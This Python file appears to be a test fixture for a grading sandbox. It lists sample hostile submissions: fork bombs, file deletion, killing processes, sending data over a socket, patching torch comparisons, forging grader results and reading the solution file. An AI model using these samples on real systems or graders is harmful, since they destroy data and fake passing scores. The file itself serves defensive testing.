"""What a hostile submission may hold, by what it tries."""

HOSTILE = {
    "endless-loop": "while True:\n    pass\n",
    "much-memory": (
        "import torch\n\n\ndef softmax(x, dim):\n"
        "    return torch.ones(20 << 27, dtype=torch.float64)\n"
    ),
    "fork-bomb": (
        "import os\n\n\ndef softmax(x, dim):\n    while True:\n"
        "        try:\n            os.fork()\n"
        "        except OSError:\n            pass\n"
    ),
    "writes-outside": (
        "from pathlib import Path\n\nPath({outside!r}).write_text('x')\n"
    ),
    "deletes": (
        "import os\n\nfor place in {places!r}:\n    for folder, _, files in "
        "os.walk(place):\n        for name in files:\n"
        "            os.remove(os.path.join(folder, name))\n"
    ),
    "patched-torch": (
        "import torch\n\ntorch.isclose = lambda a, b, **_: torch.ones(1) > 0\n"
        "torch.equal = torch.allclose = lambda *_, **__: True\n\n\n"
        "def softmax(x, dim):\n    return x\n"
    ),
    "forged-result": (
        "import os\n\nfor fd in range(3, 200):\n    try:\n"
        "        os.write(fd, b'\\x02\\0\\0\\0\\x08\\0\\0\\0{{}}')\n"
        "        os.write(fd, b'\\0' * 8)\n"
        '        os.write(fd, b\'{{"passed": true, "score": 10}}\')\n'
        "    except OSError:\n        pass\n"
        "print('PASS  mlp.softmax')\nos._exit(0)\n"
    ),
    "exit-code-0": "raise SystemExit(0)\n",
    "kills": (
        "import os, signal\n\nfor pid in [1, os.getppid(), -1]:\n    try:\n"
        "        os.kill(pid, signal.SIGKILL)\n    except OSError as error:\n"
        "        print(error)\n\n\ndef softmax(x, dim):\n    return x\n"
    ),
    "network": (
        "import socket\n\nsocket.create_connection({address!r}, 2)"
        ".sendall(b'stolen')\n"
    ),
    "reads-solution": ("exec(open({solution!r}).read())\n"),
    "keeps-running": (
        "import os, time\n\nif os.fork() == 0:\n    os.setsid()\n"
        "    if os.fork() == 0:\n        time.sleep(1000)\n"
        "    os._exit(0)\n\n\n"
        "def softmax(x, dim):\n    return x\n"
    ),
    "fills-the-disk": (
        "for number in range(64):\n"
        "    with open(f'{{number}}', 'wb') as file:\n"
        "        file.write(bytes(15 << 20))\n"
    ),
    "huge-answer": (
        "import torch\n\n\ndef softmax(x, dim):\n"
        "    return torch.ones(1 << 25, dtype=torch.float32)\n"
    ),
    "deep-answer": (
        "def softmax(x, dim):\n    deep = []\n    for _ in range(900):\n"
        "        deep = [deep]\n    return deep\n"
    ),
    "strange-type": (
        "import torch\n\n\nclass Equal(torch.Tensor):\n"
        "    def __eq__(self, other):\n        return True\n\n\n"
        "def softmax(x, dim):\n    return x.as_subclass(Equal)\n"
    ),
    "forged-words": (
        "import os\nfrom pfs.homework import wire\n\n"
        "words = {{'code': 'H02', 'values': {{'invariant': 'x'}}}}\n"
        "for fd in range(3, 200):\n    try:\n"
        "        os.write(fd, wire.pack(words))\n"
        "    except OSError:\n        pass\nos._exit(0)\n"
    ),
    "forged-answers": (
        "import os\nfrom pfs.homework import wire\n\n"
        "none = {{'result': [[10**400], {{'a': 1}}], 'gradients': [],\n"
        "        'touched': [], 'used': [], 'fault': None}}\n\n\n"
        "def softmax(x, dim):\n    for fd in range(3, 200):\n        try:\n"
        "            os.write(fd, wire.pack(none))\n"
        "        except OSError:\n            pass\n    os._exit(0)\n"
    ),
}
